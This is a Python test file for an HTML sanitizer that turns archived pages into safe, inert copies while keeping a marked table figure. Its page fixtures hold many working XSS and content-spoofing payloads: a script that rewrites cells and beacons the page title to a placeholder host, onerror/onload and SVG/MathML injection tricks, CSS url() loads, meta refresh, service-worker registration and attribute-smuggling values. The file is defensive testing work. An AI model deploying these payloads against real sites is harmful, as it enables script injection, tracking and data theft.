# ruff: noqa: E501
"""Archived pages that would run, load or deceive, in a real browser: the marked figure and what is said stand."""

import html
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from extractors.mark import mark
from extractors.readers.html_mark import Place
from tests.test_show import framed_page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EVIL = "document.querySelectorAll('td').forEach(t=>t.textContent='99');new Image().src='HOST/ran?'+document.title"
TABLE = "<table><tr><td>项目</td><td>数</td></tr><tr><td>规章</td><td>12</td></tr></table>"
LOADS = (
    "<img src=HOST/a><img srcset='HOST/b 1x'><picture><source srcset=HOST/c><img></picture><body background=HOST/d>"
    "<video poster=HOST/e src=HOST/f autoplay></video><audio src=HOST/g autoplay></audio><embed src=HOST/h>"
    "<object data=HOST/i></object><iframe src=HOST/j></iframe><input type=image src=HOST/k>"
    "<table background=HOST/l><tr><td background=HOST/m>x</table><track src=HOST/n><bgsound src=HOST/o>"
    "<link rel=stylesheet href=HOST/p><link rel=preload as=image href=HOST/q><link rel=prefetch href=HOST/r>"
    "<link rel=dns-prefetch href=HOST><link rel=icon href=HOST/s><link rel=manifest href=HOST/t>"
)
STYLES = (
    "<style>@import 'HOST/a';@font-face{font-family:x;src:url(HOST/b)}body{background:url(HOST/c);font-family:x}"
    "td:after{content:'9'}td{display:none}</style><p style=\"background:url('HOST/d')\">x</p>"
    "<p style='background:\\75\\72\\6c(HOST/e)'>x</p><p style='list-style:url(HOST/f);display:list-item'>x</p>"
    "<p style='width:1px;background-image:image-set(\"HOST/g\" 1x)'>x</p><p style='cursor:url(HOST/h),auto'>x</p>"
    "<p style='color:red;/*;*/background:url(HOST/i)'>x</p><p style='border-image:url(HOST/j)'>x</p>"
)
# name → page; each holds TABLE's figure as the reader's first table, unless PLACES says where
PAGES = {
    "scripts": f'<html><head><script>{EVIL}</script></head><body onload="{EVIL}">{TABLE}<script>{EVIL}</script></body>',
    "head in a comment": f'<html><!--<head>--><head><title>x</title></head><body>{TABLE}<img src=HOST/i onerror="{EVIL}">',
    "body in a comment": f"<html><head><!--[if lt IE 9]><body class=ie><![endif]--></head><body>{TABLE}"
    f'<svg onload="{EVIL}"></svg>',
    "lower case that is longer": f'<html><head><title>{"İ" * 900}</title></head><body {"İ" * 99} onload="{EVIL}">{TABLE}'
    f"<script>{EVIL}</script>",
    "loads": TABLE + LOADS,
    "styles": STYLES + TABLE,
    "refresh and base": f"<base href=HOST/><meta http-equiv=refresh content='0;url=HOST/r'>{TABLE}<img src=b>"
    "<meta http-equiv='set-cookie' content='a=b'>",
    "svg and math": f"{TABLE}<svg><script>{EVIL}</script><image href=HOST/a xlink:href=HOST/b /><use href='HOST/c#x'/>"
    f'<a xlink:href="javascript:{EVIL}"><text>x</text></a><animate onbegin="{EVIL}" attributeName=x dur=1s />'
    f"<style>@import 'HOST/d';</style></svg><math><mtext><table><mglyph><style><!--</style><img src=HOST/e onerror=\"{EVIL}\">"
    "--></style></table></mtext></math>",
    "noscript and template": f'<noscript><p title="</noscript><img src=HOST/a onerror={EVIL!r}>"></noscript>{TABLE}'
    f'<template><img src=HOST/b onerror="{EVIL}"></template><xmp><img src=HOST/c></xmp><textarea></textarea>',
    "forms and links": f'{TABLE}<form action=HOST/f id=f><input autofocus onfocus="{EVIL}" value=7>'
    f'<button formaction=HOST/g>x</button></form><a href="javascript:{EVIL}" ping=HOST/p id=nianbao-cell>x</a>'
    f'<details open ontoggle="{EVIL}"><summary>x</summary></details><script>f.submit()</script>',
    "data addresses": f"{TABLE}<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,<script>1</script>'>"
    f"<img src='data:image/png\"onerror=\"{EVIL}\";base64,{PIXEL}'><iframe src='data:text/html,<script>{EVIL}</script>'>"
    f"</iframe><iframe srcdoc=\"<script>{EVIL}</script>\"></iframe><object data='data:text/html,x'></object>",
    "breaks out of the frame": f'{TABLE}</div></body></html>"></iframe><script>{EVIL}</script>\'"><img src=HOST/a>'
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "over the figure": f"<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9'>99</div>"
    f"<div style='margin-top:-99px;transform:scale(3)'>99</div><div style='opacity:0'>{TABLE}</div>",
    "unclosed": "<table><tr><td>项目<td>数<tr><td><b>规章<td><i>12<p></table><div><table><tr><td>x<td>9",
    "nested": f"<table><tr><td><form><table><tr><td>{TABLE}</td></tr></table></form></td></tr></table>",
    "service worker": f"<html manifest=HOST/m><script>navigator.serviceWorker.register('HOST/sw.js')</script>{TABLE}"
    '<script type=speculationrules>{"prerender":[{"urls":["HOST/s"]}]}</script>'
    "<link rel=preconnect href=HOST><script src=HOST/x async></script>",
    "hidden tab": f"<div style='display:none' hidden><section hidden>{TABLE}</section></div><p onclick=\"{EVIL}\">x</p>",
}
FACTS = {
    "figure": "规章 12",
    "printed": "'12'",
    "address": "http://x.example/\"><script>new Image().src='HOST/banner'</script>",
}


def _marked(page: str, host: str) -> str:
    facts = {name: text.replace("HOST", host) for name, text in FACTS.items()}
    made = mark(page.replace("HOST", host).encode(), "text/html", Place(0, 1, 1), "12", None, facts)
    assert made.is_marked
    return made.html


@pytest.mark.parametrize("name", PAGES)
def test_the_copy_holds_the_figure_and_nothing_that_acts(name: str) -> None:
    inner = LexborHTMLParser(framed_page(_marked(PAGES[name], "http://127.0.0.1:9")))
    (cell,) = inner.css("#nianbao-cell")
    assert cell.tag == "td" and cell.text(strip=True) == "12"
    assert cell.parent is not None and cell.parent.css_first("td").text(strip=True) == "规章"
    assert {
        node.tag for node in inner.css("script, iframe, svg, math, form, link, base, object, embed, input")
    } == set()
    for node in inner.css("body, body *"):
        names = set(node.attributes)
        assert not {n for n in names if n.startswith("on") or n in ("href", "srcset", "background", "action", "poster")}
        assert (node.attributes.get("src") or "data:image/png;base64,").startswith("data:image/png;base64,")
        assert "url" not in (node.attributes.get("style") or "") and "position" not in (
            node.attributes.get("style") or ""
        )


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, dict[str, str], list[str]]]:
    """A server: its address, path → page that it serves, and the paths asked of it that are no such page."""
    pages: dict[str, str] = {}
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = pages.get(self.path)
            if page is None:
                asked.append(self.path)
            self.send_response(404 if page is None else 200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write((page or "").encode())

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", pages, asked
    server.shutdown()
    server.server_close()


def _look(host: str, pages: dict[str, str], paths: list[str], ask: str, tmp_path: Path) -> list[str]:
    """Open the paths in frames of one page, and say what the expression `ask` finds in each document `d`."""
    frames = "".join(f"<iframe src={path}></iframe>" for path in paths)
    script = (
        "onload=()=>setTimeout(()=>{document.title=JSON.stringify([...document.querySelectorAll('iframe')].map(f=>{"
        f"try{{const d=f.contentDocument;return String({ask})}}catch(e){{return 'away: '+e}}}}))}},1500)"
    )
    pages["/all"] = f"<!DOCTYPE html><html><head><title>-</title></head><body>{frames}<script>{script}</script></body>"
    done = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=4000", "--dump-dom", f"{host}/all"],
        check=True, capture_output=True, timeout=100, text=True,
    )  # fmt: skip
    title = LexborHTMLParser(done.stdout).css_first("title").text()
    return list(json.loads(html.unescape(title)))


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")
def test_a_browser_asks_for_nothing_runs_nothing_and_shows_the_figure_bounded(served, tmp_path: Path) -> None:
    host, pages, asked = served
    for number, page in enumerate(PAGES.values()):
        pages[f"/out{number}"] = whole = _marked(page, host)
        pages[f"/in{number}"] = framed_page(whole)  # without its sandbox: the copy itself is safe too
        pages[f"/raw{number}"] = page.replace("HOST", host)
    outer = [f"/out{number}" for number in range(len(PAGES))]
    banners = _look(host, pages, outer, "d.getElementById('nianbao-banner').innerText", tmp_path)
    assert all("规章 12" in said and "<script>" in said for said in banners)
    framed = "d.querySelector('iframe').contentDocument.getElementById('nianbao-cell').innerText.trim()"
    assert _look(host, pages, outer, framed, tmp_path) == ["12"] * len(PAGES)
    figures = _look(
        host, pages, [f"/in{number}" for number in range(len(PAGES))],
        "d.getElementById('nianbao-cell').innerText.trim()+' '+(d.getElementById('nianbao-cell').offsetHeight>0)", tmp_path,
    )  # fmt: skip
    assert figures == ["12 true"] * len(PAGES)
    assert [path for path in asked if path != "/favicon.ico"] == []
    # the pages themselves do act: the server would have seen it
    _look(host, pages, [f"/raw{number}" for number in range(len(PAGES))], "1", tmp_path)
    assert len({path for path in asked if path != "/favicon.ico"}) > 10


def test_a_picture_is_what_its_bytes_are_and_not_what_its_header_says() -> None:
    import base64

    said = 'image/png"><meta http-equiv=refresh content="0;url=http://127.0.0.1:9/r"><i a="'
    made = mark(base64.b64decode(PIXEL), said, Place(0, 0, 0), "", 1, FACTS)
    page = LexborHTMLParser(framed_page(made.html))
    assert [node.attributes["src"] for node in page.css("img")] == [f"data:image/png;base64,{PIXEL}"]
    assert not page.css("meta[http-equiv=refresh]") and not page.css("i")
